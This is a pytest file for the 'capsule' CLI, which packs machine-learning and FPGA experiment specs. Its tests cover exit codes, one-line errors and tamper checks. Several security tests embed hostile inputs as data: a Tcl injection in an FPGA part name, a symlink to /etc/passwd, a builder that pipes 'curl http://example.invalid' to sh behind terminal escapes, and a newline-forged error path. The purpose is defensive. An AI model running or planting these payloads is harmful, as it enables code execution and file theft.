"""The installed `capsule` command, run as a user runs it: exit codes, one-line errors, files."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

CLI = Path(sys.executable).parent / "capsule"


def run(*args: str | Path) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "COLUMNS": "300"}
    return subprocess.run(
        [str(CLI), *map(str, args)], capture_output=True, text=True, env=env, timeout=120
    )


def assert_one_line_error(proc: subprocess.CompletedProcess[str], code: int, text: str) -> None:
    assert proc.returncode == code, proc.stderr
    assert "Traceback" not in proc.stderr
    lines = proc.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), proc.stderr
    assert text in lines[0]


def test_init_pack_show_diff_round_trip(tmp_path: Path) -> None:
    assert run("init", tmp_path / "exp").returncode == 0
    spec = tmp_path / "exp" / "exp.toml"
    assert run("pack", spec, "-o", tmp_path / "a.capsule").returncode == 0
    assert run("pack", spec, "-o", tmp_path / "b.capsule").returncode == 0
    show = run("show", tmp_path / "a.capsule")
    assert show.returncode == 0 and "digits-mlp" in show.stdout and "verified" in show.stdout
    same = run("diff", tmp_path / "a.capsule", tmp_path / "b.capsule")
    assert same.returncode == 0 and same.stdout.strip() == "no differences"

    data = tmp_path / "exp" / "data" / "digits_features.npy"
    raw = bytearray(data.read_bytes())
    raw[1000] ^= 1
    data.write_bytes(bytes(raw))
    assert run("pack", spec, "-o", tmp_path / "b.capsule").returncode == 0
    changed = run("diff", tmp_path / "a.capsule", tmp_path / "b.capsule")
    assert changed.returncode == 1
    a = json.loads(run("show", "--json", tmp_path / "a.capsule").stdout)["data"][0]["sha256"]
    b = json.loads(run("show", "--json", tmp_path / "b.capsule").stdout)["data"][0]["sha256"]
    row = next(line for line in changed.stdout.splitlines() if "features.sha256" in line)
    assert a in row and b in row and "data" in row
    as_json = json.loads(
        run("diff", "--json", tmp_path / "a.capsule", tmp_path / "b.capsule").stdout
    )
    assert as_json == [{"section": "data", "key": "features.sha256", "a": a, "b": b}]


def test_show_json_is_the_whole_capsule(packed: Path) -> None:
    proc = run("show", "--json", packed)
    assert proc.returncode == 0
    data = json.loads(proc.stdout)
    assert data["format"] == 2 and data["spec"]["experiment"]["name"] == "digits-mlp"
    assert {d["input"] for d in data["data"]} == {"features", "labels"}


def test_tampered_data_hash_is_a_digest_mismatch(packed: Path) -> None:
    text = packed.read_text()
    sha = json.loads(run("show", "--json", packed).stdout)["data"][0]["sha256"]
    packed.write_text(text.replace(sha, "0" * 64))
    assert_one_line_error(run("show", packed), 2, "digest mismatch")


@pytest.mark.parametrize(
    ("edit", "message"),
    [
        (lambda t: t.replace("epochs = 30", "epochs = [30"), "not valid TOML"),
        (
            lambda t: t.replace("epochs = 30", "epochs = 30\nepoch = 1"),
            "training.epoch: unknown key",
        ),
        (lambda t: t.replace('path = "data/digits_labels.npy"', 'path = "../y.npy"'), "'..'"),
        (
            lambda t: t.replace('path = "data/digits_labels.npy"', 'path = "no.npy"'),
            "no such data file",
        ),
        (
            lambda t: t.replace('algo = "tpe"', 'algo = "nsga3"'),
            "search.algo: 'nsga3' is not one of tpe, random, grid, nsga2, motpe",
        ),
    ],
)
def test_bad_spec_is_one_line_exit_2_and_no_output(experiment: Path, edit, message: str) -> None:  # type: ignore[no-untyped-def]
    experiment.write_text(edit(experiment.read_text()))
    out = experiment.parent / "out.capsule"
    assert_one_line_error(run("pack", experiment, "-o", out), 2, message)
    assert not out.exists()
    assert not list(experiment.parent.glob(".out.capsule*"))


def test_an_unknown_algo_on_the_command_line_is_one_line_exit_2(packed: Path) -> None:
    proc = run("run", packed, "--algo", "cmaes", "--runtime", "local")
    assert_one_line_error(proc, 2, "--algo: 'cmaes' is not one of tpe, random, grid, nsga2, motpe")
    assert not packed.with_suffix(".run").exists()


def test_missing_and_foreign_files(tmp_path: Path) -> None:
    assert_one_line_error(run("show", tmp_path / "nope.capsule"), 2, "cannot read capsule")
    (tmp_path / "x.capsule").write_text("format = 9\n")
    assert_one_line_error(run("show", tmp_path / "x.capsule"), 2, "unsupported capsule format 9")
    (tmp_path / "y.capsule").write_bytes(b"\xff\x00")
    assert_one_line_error(run("show", tmp_path / "y.capsule"), 2, "not UTF-8")


def test_version_and_help() -> None:
    assert run("--version").stdout.strip() == "capsule 0.1.0"
    assert "pack" in run("--help").stdout


def test_reports_of_a_real_vendor_folder() -> None:
    from tests.conftest import vendor_reports

    folder = vendor_reports() / "hls4ml-fixture-vivado2020.1-z7020"
    proc = run("reports", "--json", folder)
    assert proc.returncode == 0, proc.stderr
    data = json.loads(proc.stdout)
    assert data["metrics"]["latency_cycles"] == 10 and data["fidelity"]["lut"] == "synth"
    assert data["reports"]["csynth"]["resources"]["dsp"]["used"] == 73
    table = run("reports", folder)
    assert (
        table.returncode == 0 and "7969" in table.stdout and "myproject_cosim.rpt" in table.stdout
    )
    assert_one_line_error(run("reports", folder / "nope"), 2, "not a folder")


def _sha256(path: Path) -> str:
    import hashlib

    return hashlib.sha256(path.read_bytes()).hexdigest()


def test_pack_refuses_a_capsule_that_no_longer_reads_unless_forced(packed: Path) -> None:
    """Its results are invisible to this version, not absent: replacing it needs --force."""
    spec = packed.parent / "exp" / "exp.toml"
    text = packed.read_text()
    edited = (
        text.replace("format = 1", "format = 2", 1) + '\n[[trials]]\nnumber = 0\nstatus = "ok"\n'
    )
    for content in (edited, text.replace("epochs = 30", "epochs = 999")):  # future, hand-edited
        packed.write_text(content)
        assert_one_line_error(run("pack", spec, "-o", packed), 2, "pass --force to replace it")
        assert packed.read_text() == content
    (packed.parent / "folder").mkdir()
    for force in ((), ("--force",)):
        assert_one_line_error(
            run("pack", spec, *force, "-o", packed.parent / "folder"), 2, "is a directory"
        )
    forced = run("pack", spec, "--force", "-o", packed)
    assert forced.returncode == 0, forced.stderr
    assert run("show", packed).returncode == 0


def test_pack_never_overwrites_its_own_spec_data_or_sources(experiment: Path) -> None:
    folder = experiment.parent
    (folder / "model.py").write_text("def build(params, input_shape, n_classes):\n    pass\n")
    text = experiment.read_text().replace('builder = "mlp"', 'builder = "model.py:build"')
    experiment.write_text(text.replace('"model.params.hidden"', '"model.params.widths"'))
    (folder / "link.capsule").symlink_to("data/digits_labels.npy")
    targets = {
        experiment: "is the spec",
        folder / "data" / "digits_features.npy": "data.features.path",
        folder / "link.capsule": "data.labels.path",  # another name for the same file
        folder / "model.py": "model.builder",
    }
    before = {p: _sha256(p) for p in targets}
    for target, what in targets.items():
        for force in ((), ("--force",)):
            assert_one_line_error(run("pack", experiment, *force, "-o", target), 2, what)
    assert {p: _sha256(p) for p in targets} == before


def test_pack_refuses_sources_that_resolve_outside_the_experiment(experiment: Path) -> None:
    """A symlinked include or builder would publish a file from elsewhere (here /etc/passwd)."""
    folder = experiment.parent
    (folder / "helpers.py").symlink_to("/etc/passwd")
    text = experiment.read_text().replace("seed = 42 ", 'seed = 42\ninclude = ["helpers.py"] ')
    experiment.write_text(text)
    out = folder / "out.capsule"
    assert_one_line_error(
        run("pack", experiment, "-o", out), 2, "experiment.include[0]: helpers.py resolves outside"
    )
    (folder / "helpers.py").unlink()
    (folder / "helpers.py").write_text("X = 1\n\ndef build(params, input_shape, n_classes): ...\n")
    outside = folder.parent / "model.py"
    outside.write_text("def build(params, input_shape, n_classes):\n    pass\n")
    (folder / "lib").symlink_to(folder.parent, target_is_directory=True)  # through a folder
    text = experiment.read_text().replace('builder = "mlp"', 'builder = "lib/model.py:build"')
    experiment.write_text(text.replace('"model.params.hidden"', '"model.params.widths"'))
    assert_one_line_error(
        run("pack", experiment, "-o", out), 2, "model.builder: lib/model.py resolves outside"
    )
    assert not out.exists()
    (folder / "lib").unlink()
    (folder / "lib").mkdir()
    (folder / "lib" / "model.py").symlink_to("../helpers.py")  # a link inside is fine
    assert run("pack", experiment, "-o", out, "--no-check-build").returncode == 0


INJECTED_PART = "xc7z020clg400-1[exec sh -c {id > FILE}]"


def reseal(path: Path, edit: Callable[[Any], None]) -> None:
    """Edit a capsule's values and recompute its digest, as someone forging a capsule would."""
    import tomllib

    import tomlkit

    from capsule.hashing import digest_of

    def digest(doc: Any) -> str:
        data = tomllib.loads(tomlkit.dumps(doc))
        for key in ("digest", "sealed", "trials"):  # the records chain from the digest
            data.pop(key)
        return digest_of({"sources": [], **data})  # empty lists are not written

    doc = tomlkit.parse(path.read_text())
    assert digest(doc) == doc["digest"]  # the forger's digest is the tool's
    assert doc["trials"] == {}  # no records, so the seal is the digest itself
    edit(doc)
    doc["digest"] = digest(doc)
    doc["sealed"] = f"{0:09d} {doc['digest']}"
    path.write_text(tomlkit.dumps(doc))


def test_a_tcl_command_in_the_part_is_refused_at_pack(experiment: Path, tmp_path: Path) -> None:
    witness = tmp_path / "witness"
    part = INJECTED_PART.replace("FILE", str(witness))
    text = experiment.read_text()
    experiment.write_text(text.replace('part = "xc7z020clg400-1"', f'part = "{part}"'))
    out = tmp_path / "out.capsule"
    proc = run("pack", experiment, "-o", out)
    assert_one_line_error(proc, 2, "is not an FPGA part name")
    assert proc.stderr.startswith(f"error: {experiment}:46: hls4ml.part: ")
    assert not out.exists() and not list(tmp_path.glob(".out.capsule*"))
    assert not witness.exists()


def test_a_tcl_command_injected_into_a_capsule_is_refused_by_every_reader(packed: Path) -> None:
    def describe(doc: Any) -> None:
        doc["spec"]["experiment"]["description"] = "edited and resealed"

    reseal(packed, describe)
    assert run("show", packed).returncode == 0  # a resealed capsule reads: the digest is no guard

    def inject(doc: Any) -> None:
        doc["spec"]["hls4ml"]["part"] = INJECTED_PART

    reseal(packed, inject)
    line = next(
        n for n, t in enumerate(packed.read_text().splitlines(), 1) if INJECTED_PART[:20] in t
    )
    out = packed.parent / "t"
    for command in (
        ["show", packed],
        ["show", "--sources", packed],
        ["trial", packed, "--out", out],
        ["run", packed],
        ["verify", packed],
    ):
        proc = run(*command)
        assert_one_line_error(proc, 2, f"{packed}:{line}: spec.hls4ml.part: ")
        assert "is not an FPGA part name" in proc.stderr
    assert not out.exists()


HOSTILE_SOURCE = """def build(params, input_shape, n_classes):
    import os
    os.system("curl http://example.invalid | sh")  # \x1b[2K\x1b[1A harmless helper
    return None
"""


def test_show_makes_control_characters_visible(experiment: Path, tmp_path: Path) -> None:
    (experiment.parent / "model.py").write_text(HOSTILE_SOURCE)
    text = (
        experiment.read_text()
        .replace('builder = "mlp"', 'builder = "model.py:build"')
        .replace('"model.params.hidden"', '"model.params.width"')
    )
    description = "digits\\u001b[2J\\u001b]0;owned title\\u0007 done"
    original = 'description = "scikit-learn digits, dense MLP, hls4ml Vivado backend"'
    experiment.write_text(text.replace(original, f'description = "{description}"'))
    packed = tmp_path / "hostile.capsule"
    assert run("pack", experiment, "-o", packed, "--no-check-build").returncode == 0
    show = run("show", packed)
    assert show.returncode == 0, show.stderr
    assert "\x1b" not in show.stdout and "\x07" not in show.stdout
    assert "digits\\x1b[2J\\x1b]0;owned title\\x07 done" in show.stdout
    sources = run("show", "--sources", packed)
    assert sources.returncode == 0, sources.stderr
    assert "\x1b" not in sources.stdout
    assert 'os.system("curl http://example.invalid | sh")  # \\x1b[2K\\x1b[1A' in sources.stdout
    assert "return None" in sources.stdout  # newlines stay layout: the next line is its own
    plain_capsule = tmp_path / "plain.capsule"
    experiment.write_text(text)
    assert run("pack", experiment, "-o", plain_capsule, "--no-check-build").returncode == 0
    diff = run("diff", plain_capsule, packed)
    assert diff.returncode == 1 and "\x1b" not in diff.stdout
    assert "\\x1b[2J" in diff.stdout


def test_a_newline_in_a_path_cannot_forge_a_second_error_line(tmp_path: Path) -> None:
    forged = tmp_path / "x.capsule\nerror: all trials verified, nothing to see"
    assert_one_line_error(run("show", forged), 2, "x.capsule\\nerror: all trials verified")


def test_init_example_qat_writes_a_quantization_aware_search(tmp_path: Path) -> None:
    proc = run("init", tmp_path / "qat", "--example", "qat")
    assert proc.returncode == 0, proc.stderr
    text = (tmp_path / "qat" / "exp.toml").read_text()
    assert 'builder = "hgq-mlp"' in text and '"model.params.beta"' in text
    # It synthesizes with the open flow and trades the Verilog's accuracy against Yosys LUTs,
    # counting only designs bit-exact in both simulations; its trials stay cheap.
    from capsule.spec import load_spec

    spec = load_spec(tmp_path / "qat" / "exp.toml")
    flow = spec.open_flow
    assert flow is not None and (flow.family, flow.rtlsim, flow.synth) == ("xc7", True, True)
    assert spec.runs_hls4ml() and spec.toolchain.name == "none"
    assert [(o.metric, o.direction) for o in spec.objectives] == [
        ("rtlsim_accuracy", "maximize"),
        ("lut", "minimize"),
    ]
    assert [(c.metric, c.min, c.max) for c in spec.constraints] == [
        ("csim_max_abs_diff", None, 0.0),
        ("rtlsim_max_abs_diff", None, 0.0),
    ]
    assert spec.training.epochs <= 10 and max(spec.model.params["hidden"]) <= 16
    assert spec.search.max_trials == 16
    assert (tmp_path / "qat" / "data" / "digits_features.npy").is_file()
    packed = run("pack", tmp_path / "qat" / "exp.toml", "-o", tmp_path / "qat.capsule")
    assert packed.returncode == 0, packed.stderr
    assert_one_line_error(run("init", tmp_path / "x", "--example", "qkeras"), 2, "--example")
    assert not (tmp_path / "x").exists()
